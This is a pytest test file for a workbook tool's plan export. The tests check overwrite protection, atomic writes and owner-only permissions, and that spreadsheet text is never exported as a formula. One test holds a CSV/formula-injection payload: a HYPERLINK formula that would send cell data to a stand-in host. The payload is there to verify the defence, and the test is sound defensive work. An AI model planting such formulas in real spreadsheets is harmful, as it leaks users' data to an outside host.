"""`plan --out`: never over the input workbook, never over a file without --force, never half a
file, owner-only; text from the workbook never becomes a formula in the csv or xlsx."""

from __future__ import annotations

import csv
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from hino_forms.planning import export
from tests.builders import contract_row, write_workbook
from tests.conftest import CliResult

Cli = Callable[..., CliResult]
FORMATS = ("json", "csv", "xlsx", "ics")


@pytest.fixture
def book(tmp_path: Path) -> Path:
    return write_workbook(tmp_path / "台帳.xlsx", {"契約": [contract_row(契約番号="R7-001")]})


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_existing_file_needs_force_and_the_result_is_owner_only(
    book: Path, tmp_path: Path, cli: Cli, fmt: str
) -> None:
    out = tmp_path / f"予定.{fmt}"
    out.write_text("利用者が残したい内容", encoding="utf-8")
    refused = cli("plan", book, "--format", fmt, "--out", out)
    assert refused.code == 2 and "--force" in refused.err and str(out) in refused.err
    assert out.read_text(encoding="utf-8") == "利用者が残したい内容"
    done = cli("plan", book, "--format", fmt, "--out", out, "--force")
    assert done.code == 0, done.err
    assert out.read_bytes() != "利用者が残したい内容".encode()
    assert os.stat(out).st_mode & 0o777 == 0o600  # it names staff and contracts
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["台帳.xlsx", out.name])


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_input_workbook_is_never_the_output(book: Path, cli: Cli, fmt: str) -> None:
    before = book.read_bytes()
    done = cli("plan", book, "--format", fmt, "--out", book, "--force")
    assert done.code == 2 and "入力のブックと同じ" in done.err
    assert book.read_bytes() == before


def test_a_failed_write_leaves_the_old_file_and_no_partial_one(
    book: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "予定.xlsx"
    out.write_bytes(b"old")

    def broken(path: Path, *args: object, **kwargs: object) -> None:
        path.write_bytes(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "write_xlsx", broken)
    done = cli("plan", book, "--format", "xlsx", "--out", out, "--force")
    assert done.code == 2 and "書き込めません" in done.err
    assert out.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["予定.xlsx", "台帳.xlsx"]


def test_formula_like_text_from_the_workbook_stays_text(tmp_path: Path, cli: Cli) -> None:
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'
    book = write_workbook(tmp_path / "in.xlsx", {"契約": [contract_row(業務名="x")]})
    # Typed as text (as Excel keeps '=… or a pasted value); the builder would make a formula.
    from openpyxl import load_workbook

    from hino_forms.xlsx import put

    wb = load_workbook(book)
    put(wb["契約"], 2, 2, evil)
    wb.save(book)
    assert cli("plan", book, "--format", "csv", "--out", tmp_path / "p.csv").code == 0
    rows = list(csv.reader((tmp_path / "p.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert {r[1] for r in rows[1:]} == {"'" + evil}
    assert cli("plan", book, "--format", "xlsx", "--out", tmp_path / "p.xlsx").code == 0
    with zipfile.ZipFile(tmp_path / "p.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
